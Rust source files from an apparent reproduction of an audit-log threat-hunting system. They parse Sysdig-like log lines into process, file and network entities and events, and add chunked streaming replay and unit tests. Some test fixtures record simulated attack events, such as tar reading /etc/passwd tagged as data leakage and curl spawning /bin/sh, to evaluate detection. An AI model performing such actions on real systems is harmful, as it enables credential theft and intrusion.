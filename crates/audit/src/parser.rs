//! Raw-log parser: text lines → system entities + system events.
//!
//! This is the paper's "Log Parsing" component (Fig. 1): it consumes the
//! Sysdig-like text format of [`crate::rawlog`] and produces deduplicated
//! entities with stable ids plus the event stream referencing them.
//!
//! Entity identity:
//! * processes are keyed by `(pid, start_time)` — pids are not reused
//!   within a scenario, but the pair is future-proof;
//! * files are keyed by absolute path;
//! * network connections are keyed by the full 5-tuple.

use crate::entity::{Entity, EntityId, FileEntity, NetworkEntity, ProcessEntity};
use crate::event::{AttackTag, Event, EventId, Operation};
use std::collections::HashMap;
use std::fmt;

/// A parse failure, with 1-based line number and explanation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// 1-based line number of the offending line.
    pub line: usize,
    /// Human-readable description.
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Result of parsing a raw log document.
#[derive(Debug, Clone, Default)]
pub struct ParsedLog {
    /// All entities, indexed by [`EntityId`].
    pub entities: Vec<Entity>,
    /// All events, indexed by [`EventId`], in log order.
    pub events: Vec<Event>,
}

impl ParsedLog {
    /// Looks up an entity by id.
    #[inline]
    pub fn entity(&self, id: EntityId) -> &Entity {
        &self.entities[id.index()]
    }

    /// Looks up an event by id.
    #[inline]
    pub fn event(&self, id: EventId) -> &Event {
        &self.events[id.index()]
    }

    /// Number of entities of each kind `(files, processes, connections)`.
    pub fn entity_counts(&self) -> (usize, usize, usize) {
        let mut files = 0;
        let mut procs = 0;
        let mut nets = 0;
        for e in &self.entities {
            match e {
                Entity::File(_) => files += 1,
                Entity::Process(_) => procs += 1,
                Entity::Network(_) => nets += 1,
            }
        }
        (files, procs, nets)
    }
}

/// One increment of a chunked parse: the entities and events added since
/// the previous chunk was taken. Entity ids are global and append-only —
/// `new_entities` continues the id sequence of every earlier chunk, and
/// `events` may reference entities from any chunk so far. Produced by
/// [`Parser::take_chunk`] / [`crate::feed::LogFeed`] and consumed by the
/// storage layer's streaming ingest.
#[derive(Debug, Clone, Default)]
pub struct LogChunk {
    /// Entities first referenced in this chunk, in global id order.
    pub new_entities: Vec<Entity>,
    /// Events of this chunk, in log order with global [`EventId`]s.
    pub events: Vec<Event>,
}

impl LogChunk {
    /// True when the chunk carries neither entities nor events.
    pub fn is_empty(&self) -> bool {
        self.new_entities.is_empty() && self.events.is_empty()
    }

    /// `(min start, max start)` over this chunk's events.
    pub fn span(&self) -> Option<(u64, u64)> {
        let lo = self.events.iter().map(|e| e.start).min()?;
        let hi = self.events.iter().map(|e| e.start).max()?;
        Some((lo, hi))
    }
}

/// Streaming parser with entity interning.
#[derive(Debug, Default)]
pub struct Parser {
    out: ParsedLog,
    proc_ids: HashMap<(u32, u64), EntityId>,
    file_ids: HashMap<String, EntityId>,
    net_ids: HashMap<(String, u16, String, u16, String), EntityId>,
    /// Chunk cursors: how much of `out` earlier [`Parser::take_chunk`]
    /// calls have already handed out.
    taken_entities: usize,
    taken_events: usize,
}

impl Parser {
    /// Creates an empty parser.
    pub fn new() -> Self {
        Self::default()
    }

    /// Parses a whole document (newline-separated lines). Blank lines and
    /// lines starting with `#` are skipped. Fails fast on the first
    /// malformed line.
    pub fn parse_document(mut self, text: &str) -> Result<ParsedLog, ParseError> {
        for (idx, line) in text.lines().enumerate() {
            let lineno = idx + 1;
            let trimmed = line.trim_end();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            self.parse_line(trimmed, lineno)?;
        }
        Ok(self.out)
    }

    /// Events parsed but not yet handed out by [`Parser::take_chunk`].
    pub fn pending_events(&self) -> usize {
        self.out.events.len() - self.taken_events
    }

    /// The `i`-th pending event (0 = oldest not yet taken).
    pub fn pending_event(&self, i: usize) -> &Event {
        &self.out.events[self.taken_events + i]
    }

    /// Takes everything parsed since the last chunk: all pending entities
    /// and all pending events.
    pub fn take_chunk(&mut self) -> LogChunk {
        let n = self.pending_events();
        self.take_chunk_events(n)
    }

    /// Takes a chunk with the first `n` pending events (clamped) and
    /// *all* pending entities. Handing out entities eagerly keeps the
    /// global id sequence contiguous per chunk; an entity interned by a
    /// still-pending event simply arrives one chunk early, which the
    /// append-only id scheme makes harmless.
    pub fn take_chunk_events(&mut self, n: usize) -> LogChunk {
        let n = n.min(self.pending_events());
        let chunk = LogChunk {
            new_entities: self.out.entities[self.taken_entities..].to_vec(),
            events: self.out.events[self.taken_events..self.taken_events + n].to_vec(),
        };
        self.taken_entities = self.out.entities.len();
        self.taken_events += n;
        chunk
    }

    /// Parses a single line, appending to the accumulated log.
    pub fn parse_line(&mut self, line: &str, lineno: usize) -> Result<(), ParseError> {
        let err = |message: String| ParseError {
            line: lineno,
            message,
        };
        let fields: Vec<&str> = line.split('\t').collect();
        if fields.len() != 11 {
            return Err(err(format!(
                "expected 11 tab-separated fields, got {}",
                fields.len()
            )));
        }
        let start: u64 = fields[0]
            .parse()
            .map_err(|_| err(format!("bad start timestamp `{}`", fields[0])))?;
        let end: u64 = fields[1]
            .parse()
            .map_err(|_| err(format!("bad end timestamp `{}`", fields[1])))?;
        if end < start {
            return Err(err(format!(
                "event ends ({end}) before it starts ({start})"
            )));
        }
        let pid: u32 = fields[2]
            .parse()
            .map_err(|_| err(format!("bad pid `{}`", fields[2])))?;
        let exe = fields[3];
        let owner = fields[4];
        let pstart: u64 = fields[5]
            .parse()
            .map_err(|_| err(format!("bad process start time `{}`", fields[5])))?;
        let cmdline = fields[6];
        let op: Operation = fields[7]
            .parse()
            .map_err(|_| err(format!("unknown operation `{}`", fields[7])))?;
        let bytes: u64 = fields[9]
            .parse()
            .map_err(|_| err(format!("bad byte count `{}`", fields[9])))?;
        let tag = parse_tag(fields[10]).map_err(err)?;

        let subject = self.intern_process(pid, exe, owner, cmdline, pstart);
        let object = self.parse_object(fields[8], op, lineno)?;

        let id = EventId(self.out.events.len() as u32);
        self.out.events.push(Event {
            id,
            subject,
            op,
            object,
            start,
            end,
            bytes,
            merged: 1,
            tag,
        });
        Ok(())
    }

    fn parse_object(
        &mut self,
        spec: &str,
        op: Operation,
        lineno: usize,
    ) -> Result<EntityId, ParseError> {
        let err = |message: String| ParseError {
            line: lineno,
            message,
        };
        let mut parts = spec.split('|');
        let kind = parts.next().unwrap_or("");
        let rest: Vec<&str> = parts.collect();
        match kind {
            "F" => {
                if op.object_kind() != crate::entity::EntityKind::File {
                    return Err(err(format!("operation `{op}` cannot target a file")));
                }
                let [path] = rest.as_slice() else {
                    return Err(err(format!("bad file objspec `{spec}`")));
                };
                Ok(self.intern_file(path))
            }
            "P" => {
                if op.object_kind() != crate::entity::EntityKind::Process {
                    return Err(err(format!("operation `{op}` cannot target a process")));
                }
                let [pid, exe, owner, pstart, cmdline] = rest.as_slice() else {
                    return Err(err(format!("bad process objspec `{spec}`")));
                };
                let pid: u32 = pid
                    .parse()
                    .map_err(|_| err(format!("bad object pid `{pid}`")))?;
                let pstart: u64 = pstart
                    .parse()
                    .map_err(|_| err(format!("bad object process start `{pstart}`")))?;
                Ok(self.intern_process(pid, exe, owner, cmdline, pstart))
            }
            "N" => {
                if op.object_kind() != crate::entity::EntityKind::Network {
                    return Err(err(format!("operation `{op}` cannot target a connection")));
                }
                let [src_ip, src_port, dst_ip, dst_port, proto] = rest.as_slice() else {
                    return Err(err(format!("bad network objspec `{spec}`")));
                };
                let src_port: u16 = src_port
                    .parse()
                    .map_err(|_| err(format!("bad source port `{src_port}`")))?;
                let dst_port: u16 = dst_port
                    .parse()
                    .map_err(|_| err(format!("bad destination port `{dst_port}`")))?;
                Ok(self.intern_network(src_ip, src_port, dst_ip, dst_port, proto))
            }
            other => Err(err(format!("unknown object kind `{other}`"))),
        }
    }

    fn intern_process(
        &mut self,
        pid: u32,
        exe: &str,
        owner: &str,
        cmdline: &str,
        start_time: u64,
    ) -> EntityId {
        if let Some(&id) = self.proc_ids.get(&(pid, start_time)) {
            return id;
        }
        let id = EntityId(self.out.entities.len() as u32);
        self.out.entities.push(Entity::Process(ProcessEntity {
            id,
            pid,
            exename: exe.to_string(),
            cmdline: cmdline.to_string(),
            owner: owner.to_string(),
            start_time,
        }));
        self.proc_ids.insert((pid, start_time), id);
        id
    }

    fn intern_file(&mut self, path: &str) -> EntityId {
        if let Some(&id) = self.file_ids.get(path) {
            return id;
        }
        let id = EntityId(self.out.entities.len() as u32);
        self.out.entities.push(Entity::File(FileEntity {
            id,
            name: path.to_string(),
        }));
        self.file_ids.insert(path.to_string(), id);
        id
    }

    fn intern_network(
        &mut self,
        src_ip: &str,
        src_port: u16,
        dst_ip: &str,
        dst_port: u16,
        protocol: &str,
    ) -> EntityId {
        let key = (
            src_ip.to_string(),
            src_port,
            dst_ip.to_string(),
            dst_port,
            protocol.to_string(),
        );
        if let Some(&id) = self.net_ids.get(&key) {
            return id;
        }
        let id = EntityId(self.out.entities.len() as u32);
        self.out.entities.push(Entity::Network(NetworkEntity {
            id,
            src_ip: src_ip.to_string(),
            src_port,
            dst_ip: dst_ip.to_string(),
            dst_port,
            protocol: protocol.to_string(),
        }));
        self.net_ids.insert(key, id);
        id
    }
}

fn parse_tag(field: &str) -> Result<Option<AttackTag>, String> {
    if field == "-" {
        return Ok(None);
    }
    let (case, step) = field
        .rsplit_once(':')
        .ok_or_else(|| format!("bad tag `{field}`"))?;
    let step: u32 = step.parse().map_err(|_| format!("bad tag step `{step}`"))?;
    if case.is_empty() {
        return Err(format!("bad tag `{field}`: empty case"));
    }
    Ok(Some(AttackTag {
        case: case.to_string(),
        step,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rawlog::{encode_lines, RawObject, RawProc, RawRecord};

    fn proc_ctx(pid: u32, exe: &str) -> RawProc {
        RawProc {
            pid,
            exe: exe.into(),
            owner: "root".into(),
            cmdline: exe.into(),
            start_time: 100,
        }
    }

    fn file_read(pid: u32, exe: &str, path: &str, start: u64) -> RawRecord {
        RawRecord {
            start,
            end: start + 5,
            subject: proc_ctx(pid, exe),
            op: Operation::Read,
            object: RawObject::File { path: path.into() },
            bytes: 4096,
            tag: None,
        }
    }

    #[test]
    fn round_trip_single_event() {
        let doc = encode_lines(&[file_read(10, "/bin/cat", "/etc/hosts", 1000)]);
        let log = Parser::new().parse_document(&doc).unwrap();
        assert_eq!(log.events.len(), 1);
        assert_eq!(log.entities.len(), 2);
        let ev = &log.events[0];
        assert_eq!(ev.op, Operation::Read);
        assert_eq!(ev.start, 1000);
        assert_eq!(ev.end, 1005);
        let subject = log.entity(ev.subject).as_process().unwrap();
        assert_eq!(subject.exename, "/bin/cat");
        let object = log.entity(ev.object).as_file().unwrap();
        assert_eq!(object.name, "/etc/hosts");
    }

    #[test]
    fn entities_are_interned() {
        let doc = encode_lines(&[
            file_read(10, "/bin/cat", "/etc/hosts", 1000),
            file_read(10, "/bin/cat", "/etc/hosts", 2000),
            file_read(10, "/bin/cat", "/etc/passwd", 3000),
        ]);
        let log = Parser::new().parse_document(&doc).unwrap();
        assert_eq!(log.events.len(), 3);
        // 1 process + 2 files.
        assert_eq!(log.entities.len(), 3);
        assert_eq!(log.events[0].subject, log.events[1].subject);
        assert_eq!(log.events[0].object, log.events[1].object);
        assert_ne!(log.events[0].object, log.events[2].object);
        assert_eq!(log.entity_counts(), (2, 1, 0));
    }

    #[test]
    fn network_and_process_objects() {
        let conn = RawRecord {
            start: 1,
            end: 2,
            subject: proc_ctx(10, "/usr/bin/curl"),
            op: Operation::Connect,
            object: RawObject::Network {
                src_ip: "10.0.0.4".into(),
                src_port: 50000,
                dst_ip: "192.168.29.128".into(),
                dst_port: 443,
                protocol: "tcp".into(),
            },
            bytes: 0,
            tag: None,
        };
        let fork = RawRecord {
            start: 3,
            end: 4,
            subject: proc_ctx(10, "/usr/bin/curl"),
            op: Operation::Fork,
            object: RawObject::Process(proc_ctx(11, "/bin/sh")),
            bytes: 0,
            tag: None,
        };
        let log = Parser::new()
            .parse_document(&encode_lines(&[conn, fork]))
            .unwrap();
        assert_eq!(log.entity_counts(), (0, 2, 1));
        let net = log.entity(log.events[0].object).as_network().unwrap();
        assert_eq!(net.dst_ip, "192.168.29.128");
        let child = log.entity(log.events[1].object).as_process().unwrap();
        assert_eq!(child.pid, 11);
    }

    #[test]
    fn tags_round_trip() {
        let mut rec = file_read(10, "/bin/tar", "/etc/passwd", 10);
        rec.tag = Some(AttackTag {
            case: "data_leakage".into(),
            step: 1,
        });
        let log = Parser::new().parse_document(&encode_lines(&[rec])).unwrap();
        assert_eq!(
            log.events[0].tag,
            Some(AttackTag {
                case: "data_leakage".into(),
                step: 1
            })
        );
        assert!(log.events[0].is_attack());
    }

    #[test]
    fn blank_and_comment_lines_skipped() {
        let mut doc = String::from("# sysdig-like capture\n\n");
        doc.push_str(&encode_lines(&[file_read(1, "/bin/ls", "/tmp/a", 5)]));
        let log = Parser::new().parse_document(&doc).unwrap();
        assert_eq!(log.events.len(), 1);
    }

    #[test]
    fn malformed_field_count_rejected() {
        let err = Parser::new().parse_document("1\t2\t3\n").unwrap_err();
        assert_eq!(err.line, 1);
        assert!(err.message.contains("11 tab-separated"));
    }

    #[test]
    fn bad_timestamps_rejected() {
        let line = "xx\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tread\tF|/tmp/a\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("bad start timestamp"));

        let line = "9\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tread\tF|/tmp/a\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("ends"));
    }

    #[test]
    fn op_object_kind_mismatch_rejected() {
        // `connect` must target a network object, not a file.
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tconnect\tF|/tmp/a\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("cannot target a file"), "{err}");
    }

    #[test]
    fn unknown_operation_rejected() {
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tlevitate\tF|/tmp/a\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("unknown operation"));
    }

    #[test]
    fn bad_tag_rejected() {
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tread\tF|/tmp/a\t0\tnocolon";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("bad tag"));
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tread\tF|/tmp/a\t0\t:3";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("empty case"));
    }

    #[test]
    fn bad_objspec_rejected() {
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tread\tQ|/tmp/a\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("unknown object kind"));
        let line = "1\t2\t1\t/bin/ls\troot\t0\t/bin/ls\tconnect\tN|1.2.3.4|80\t0\t-";
        let err = Parser::new().parse_document(line).unwrap_err();
        assert!(err.message.contains("bad network objspec"));
    }
}
