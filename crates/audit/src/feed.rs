//! Chunked replay of raw audit logs — the bridge between the batch
//! parser and streaming ingest.
//!
//! The paper's deployment tails a live Sysdig capture; this reproduction
//! replays a raw log document *as if* it were live: a [`LogFeed`] walks
//! the text line by line through the ordinary streaming [`Parser`] and
//! yields [`LogChunk`]s cut either every `n` events or at fixed
//! virtual-time windows. Entity ids and event ids are identical to a
//! one-shot [`Parser::parse_document`] of the same text — the feed only
//! changes *when* data becomes visible, never what it is.

use crate::parser::{LogChunk, ParseError, Parser};

/// How a [`LogFeed`] cuts the stream into chunks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChunkBy {
    /// A chunk every `n` events (the last chunk may be shorter).
    Events(usize),
    /// A chunk per fixed window of log time: the grid starts at the
    /// first event's start, and a chunk closes when an event starts at
    /// or past the current window's end. Replaying with a paced clock
    /// turns this into a timed stream.
    Time(u64),
}

/// An iterator of [`LogChunk`]s over a raw log document.
///
/// Yields `Err` once on the first malformed line and then fuses.
#[derive(Debug)]
pub struct LogFeed<'a> {
    parser: Parser,
    lines: std::str::Lines<'a>,
    lineno: usize,
    by: ChunkBy,
    /// Exclusive end of the current time window (Time mode only).
    window_end: Option<u64>,
    done: bool,
}

impl<'a> LogFeed<'a> {
    /// A feed over `raw` with the given chunking rule.
    pub fn new(raw: &'a str, by: ChunkBy) -> LogFeed<'a> {
        let by = match by {
            ChunkBy::Events(n) => ChunkBy::Events(n.max(1)),
            ChunkBy::Time(w) => ChunkBy::Time(w.max(1)),
        };
        LogFeed {
            parser: Parser::new(),
            lines: raw.lines(),
            lineno: 0,
            by,
            window_end: None,
            done: false,
        }
    }

    /// A feed cutting every `n` events.
    pub fn by_events(raw: &'a str, n: usize) -> LogFeed<'a> {
        Self::new(raw, ChunkBy::Events(n))
    }

    /// A feed cutting at fixed `window`-sized slices of log time.
    pub fn by_time(raw: &'a str, window: u64) -> LogFeed<'a> {
        Self::new(raw, ChunkBy::Time(window))
    }
}

impl Iterator for LogFeed<'_> {
    type Item = Result<LogChunk, ParseError>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.done {
            return None;
        }
        loop {
            let Some(line) = self.lines.next() else {
                // End of input: flush whatever is pending, once.
                self.done = true;
                let chunk = self.parser.take_chunk();
                return (!chunk.is_empty()).then_some(Ok(chunk));
            };
            self.lineno += 1;
            let trimmed = line.trim_end();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            if let Err(e) = self.parser.parse_line(trimmed, self.lineno) {
                self.done = true;
                return Some(Err(e));
            }
            match self.by {
                ChunkBy::Events(n) => {
                    if self.parser.pending_events() >= n {
                        return Some(Ok(self.parser.take_chunk()));
                    }
                }
                ChunkBy::Time(w) => {
                    let pending = self.parser.pending_events();
                    let last_start = self.parser.pending_event(pending - 1).start;
                    let end = *self.window_end.get_or_insert(last_start + w);
                    if last_start >= end && pending > 1 {
                        // The just-parsed event opens a later window:
                        // emit everything before it, keep it pending.
                        let chunk = self.parser.take_chunk_events(pending - 1);
                        // Advance the grid far enough to cover it.
                        let mut new_end = end;
                        while last_start >= new_end {
                            new_end += w;
                        }
                        self.window_end = Some(new_end);
                        return Some(Ok(chunk));
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::scenario::ScenarioBuilder;

    fn raw_log(events: usize) -> String {
        ScenarioBuilder::new()
            .seed(42)
            .target_events(events)
            .build()
            .raw
    }

    /// Replaying any way must reassemble the exact one-shot parse.
    fn assert_feed_matches_batch(raw: &str, feed: LogFeed<'_>) {
        let batch = Parser::new().parse_document(raw).unwrap();
        let mut entities = Vec::new();
        let mut events = Vec::new();
        for chunk in feed {
            let chunk = chunk.expect("well-formed log");
            // Chunks continue the global id sequence.
            assert_eq!(
                chunk.new_entities.first().map(|e| e.id().index()),
                (!chunk.new_entities.is_empty()).then_some(entities.len())
            );
            entities.extend(chunk.new_entities);
            events.extend(chunk.events);
        }
        assert_eq!(entities, batch.entities);
        assert_eq!(events, batch.events);
    }

    #[test]
    fn event_chunking_reassembles_the_batch_parse() {
        let raw = raw_log(800);
        for n in [1usize, 13, 100, 10_000] {
            assert_feed_matches_batch(&raw, LogFeed::by_events(&raw, n));
        }
    }

    #[test]
    fn time_chunking_reassembles_the_batch_parse() {
        let raw = raw_log(800);
        for w in [1u64, 1 << 20, 1 << 28, u64::MAX / 2] {
            assert_feed_matches_batch(&raw, LogFeed::by_time(&raw, w));
        }
    }

    #[test]
    fn event_chunks_have_the_requested_size() {
        let raw = raw_log(500);
        let sizes: Vec<usize> = LogFeed::by_events(&raw, 64)
            .map(|c| c.unwrap().events.len())
            .collect();
        assert!(sizes.len() > 2);
        assert!(sizes[..sizes.len() - 1].iter().all(|&s| s == 64));
        assert!(*sizes.last().unwrap() <= 64);
    }

    #[test]
    fn time_chunks_are_window_aligned() {
        let raw = raw_log(500);
        let w = 1u64 << 24;
        let chunks: Vec<LogChunk> = LogFeed::by_time(&raw, w).map(|c| c.unwrap()).collect();
        assert!(chunks.len() > 1, "window must cut this scenario");
        for chunk in &chunks {
            if let Some((lo, hi)) = chunk.span() {
                assert!(hi - lo < 2 * w, "chunk spans too much log time");
            }
        }
    }

    #[test]
    fn parse_errors_surface_and_fuse() {
        let mut raw = raw_log(50);
        raw.push_str("this is not a log line\n");
        raw.push_str(&raw_log(10));
        let mut feed = LogFeed::by_events(&raw, 10_000);
        let got: Vec<_> = feed.by_ref().collect();
        assert!(matches!(got.last(), Some(Err(_))));
        assert!(feed.next().is_none(), "feed must fuse after an error");
    }

    #[test]
    fn comments_and_blanks_are_skipped() {
        let mut raw = String::from("# header\n\n");
        raw.push_str(&raw_log(20));
        assert_feed_matches_batch(&raw, LogFeed::by_events(&raw, 5));
    }
}
