//! System events: interactions between system entities.
//!
//! A system event is `⟨subject, operation, object⟩` (paper §II-A): the
//! subject is always a process; the object can be a file, a process, or a
//! network connection. Events are categorized into file, process, and
//! network events by the type of their object entity.

use crate::entity::{EntityId, EntityKind};
use std::fmt;
use std::str::FromStr;

/// Stable identifier for a system event within one parsed log.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct EventId(pub u32);

impl EventId {
    /// Returns the id as a `usize`, for direct indexing.
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Display for EventId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "v{}", self.0)
    }
}

/// System-call-level operations recorded by the auditing layer.
///
/// The set mirrors what Sysdig surfaces for the three entity kinds; TBQL
/// operation expressions (`read || write`) range over these.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Operation {
    /// Process reads from a file.
    Read,
    /// Process writes to a file.
    Write,
    /// Process opens a file (metadata access).
    Open,
    /// Process closes a file descriptor.
    Close,
    /// Process executes a file (execve).
    Execute,
    /// Process renames a file (object = destination path).
    Rename,
    /// Process unlinks (deletes) a file.
    Unlink,
    /// Process changes file permissions.
    Chmod,
    /// Process changes file ownership.
    Chown,
    /// Process memory-maps a file.
    Mmap,
    /// Process creates a child process (object = child).
    Fork,
    /// Process clones a thread/child (object = child).
    Clone,
    /// Process kills/signals another process.
    Kill,
    /// Process sets user id (recorded against itself).
    Setuid,
    /// Process initiates an outbound connection.
    Connect,
    /// Process accepts an inbound connection.
    Accept,
    /// Process sends bytes over a connection.
    Send,
    /// Process receives bytes over a connection.
    Recv,
}

impl Operation {
    /// All operations, in a stable order.
    pub const ALL: [Operation; 18] = [
        Operation::Read,
        Operation::Write,
        Operation::Open,
        Operation::Close,
        Operation::Execute,
        Operation::Rename,
        Operation::Unlink,
        Operation::Chmod,
        Operation::Chown,
        Operation::Mmap,
        Operation::Fork,
        Operation::Clone,
        Operation::Kill,
        Operation::Setuid,
        Operation::Connect,
        Operation::Accept,
        Operation::Send,
        Operation::Recv,
    ];

    /// Lowercase name as used in raw logs and TBQL.
    pub fn name(self) -> &'static str {
        match self {
            Operation::Read => "read",
            Operation::Write => "write",
            Operation::Open => "open",
            Operation::Close => "close",
            Operation::Execute => "execute",
            Operation::Rename => "rename",
            Operation::Unlink => "unlink",
            Operation::Chmod => "chmod",
            Operation::Chown => "chown",
            Operation::Mmap => "mmap",
            Operation::Fork => "fork",
            Operation::Clone => "clone",
            Operation::Kill => "kill",
            Operation::Setuid => "setuid",
            Operation::Connect => "connect",
            Operation::Accept => "accept",
            Operation::Send => "send",
            Operation::Recv => "recv",
        }
    }

    /// The object entity kind this operation targets.
    pub fn object_kind(self) -> EntityKind {
        match self {
            Operation::Read
            | Operation::Write
            | Operation::Open
            | Operation::Close
            | Operation::Execute
            | Operation::Rename
            | Operation::Unlink
            | Operation::Chmod
            | Operation::Chown
            | Operation::Mmap => EntityKind::File,
            Operation::Fork | Operation::Clone | Operation::Kill | Operation::Setuid => {
                EntityKind::Process
            }
            Operation::Connect | Operation::Accept | Operation::Send | Operation::Recv => {
                EntityKind::Network
            }
        }
    }

    /// The event type induced by this operation's object kind.
    pub fn event_type(self) -> EventType {
        match self.object_kind() {
            EntityKind::File => EventType::File,
            EntityKind::Process => EventType::Process,
            EntityKind::Network => EventType::Network,
        }
    }

    /// Whether repeated occurrences of this operation between the same
    /// entity pair are candidates for Causality-Preserved Reduction.
    ///
    /// Data-transfer syscalls arrive in bursts (one per buffer) and can be
    /// merged; lifecycle operations (fork, execute, …) are singular.
    pub fn cpr_mergeable(self) -> bool {
        matches!(
            self,
            Operation::Read | Operation::Write | Operation::Send | Operation::Recv
        )
    }
}

impl fmt::Display for Operation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Operation {
    type Err = UnknownOperation;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Operation::ALL
            .iter()
            .copied()
            .find(|op| op.name() == s)
            .ok_or_else(|| UnknownOperation(s.to_string()))
    }
}

/// Error returned when parsing an unknown operation name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnknownOperation(pub String);

impl fmt::Display for UnknownOperation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "unknown operation `{}`", self.0)
    }
}

impl std::error::Error for UnknownOperation {}

/// Event categories by object entity type (paper §II-A).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EventType {
    /// Object is a file.
    File,
    /// Object is a process.
    Process,
    /// Object is a network connection.
    Network,
}

/// Ground-truth label attached to attack events by the simulator.
///
/// This is evaluation metadata only: it survives raw-log round-trips (as a
/// trailing comment field) so that experiment harnesses can compute
/// precision/recall, but the storage and query layers never consult it.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct AttackTag {
    /// Attack case identifier, e.g. `data_leakage`.
    pub case: String,
    /// Step number within the attack (1-based).
    pub step: u32,
}

impl fmt::Display for AttackTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.case, self.step)
    }
}

/// A system event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Event {
    /// Event id within the parsed log.
    pub id: EventId,
    /// Subject entity (always a process).
    pub subject: EntityId,
    /// Operation performed.
    pub op: Operation,
    /// Object entity (file / process / network, per `op.object_kind()`).
    pub object: EntityId,
    /// Start timestamp (ns since scenario start).
    pub start: u64,
    /// End timestamp (ns since scenario start); `end >= start`.
    pub end: u64,
    /// Bytes transferred, where applicable (read/write/send/recv).
    pub bytes: u64,
    /// Number of raw events this record represents (>1 after CPR merging).
    pub merged: u32,
    /// Ground-truth attack label, if any.
    pub tag: Option<AttackTag>,
}

impl Event {
    /// The event's type (file / process / network).
    pub fn event_type(&self) -> EventType {
        self.op.event_type()
    }

    /// True if this event was emitted by an attack script.
    pub fn is_attack(&self) -> bool {
        self.tag.is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn op_name_round_trip() {
        for op in Operation::ALL {
            assert_eq!(op.name().parse::<Operation>().unwrap(), op);
        }
    }

    #[test]
    fn unknown_op_rejected() {
        let err = "teleport".parse::<Operation>().unwrap_err();
        assert_eq!(err, UnknownOperation("teleport".into()));
        assert!(err.to_string().contains("teleport"));
    }

    #[test]
    fn object_kinds() {
        assert_eq!(Operation::Read.object_kind(), EntityKind::File);
        assert_eq!(Operation::Fork.object_kind(), EntityKind::Process);
        assert_eq!(Operation::Connect.object_kind(), EntityKind::Network);
    }

    #[test]
    fn event_types_follow_object_kind() {
        assert_eq!(Operation::Write.event_type(), EventType::File);
        assert_eq!(Operation::Clone.event_type(), EventType::Process);
        assert_eq!(Operation::Send.event_type(), EventType::Network);
    }

    #[test]
    fn cpr_mergeable_set() {
        assert!(Operation::Read.cpr_mergeable());
        assert!(Operation::Send.cpr_mergeable());
        assert!(!Operation::Fork.cpr_mergeable());
        assert!(!Operation::Execute.cpr_mergeable());
        assert!(!Operation::Connect.cpr_mergeable());
    }

    #[test]
    fn attack_tag_display() {
        let tag = AttackTag {
            case: "data_leakage".into(),
            step: 3,
        };
        assert_eq!(tag.to_string(), "data_leakage:3");
    }

    #[test]
    fn event_helpers() {
        let ev = Event {
            id: EventId(0),
            subject: EntityId(1),
            op: Operation::Read,
            object: EntityId(2),
            start: 10,
            end: 20,
            bytes: 4096,
            merged: 1,
            tag: None,
        };
        assert_eq!(ev.event_type(), EventType::File);
        assert!(!ev.is_attack());
        assert_eq!(EventId(3).to_string(), "v3");
        assert_eq!(EventId(3).index(), 3);
    }
}
