//! System entities: files, processes, and network connections.
//!
//! Following the convention established by AIQL/SAQL and adopted by the
//! paper (§II-A), a *system entity* is one of a file, a process, or a
//! network connection. Entities carry the attributes the paper lists as
//! representative: file `name` (path), process `exename` (plus pid, owner,
//! command line), and connection `srcip`/`srcport`/`dstip`/`dstport`.

use std::fmt;

/// Stable identifier for a system entity within one parsed log.
///
/// Entity ids are assigned densely by the [`crate::parser::Parser`] in
/// first-seen order, so they double as indexes into entity arrays.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct EntityId(pub u32);

impl EntityId {
    /// Returns the id as a `usize`, for direct indexing.
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Display for EntityId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "e{}", self.0)
    }
}

/// The three kinds of system entity the paper's auditing layer captures.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EntityKind {
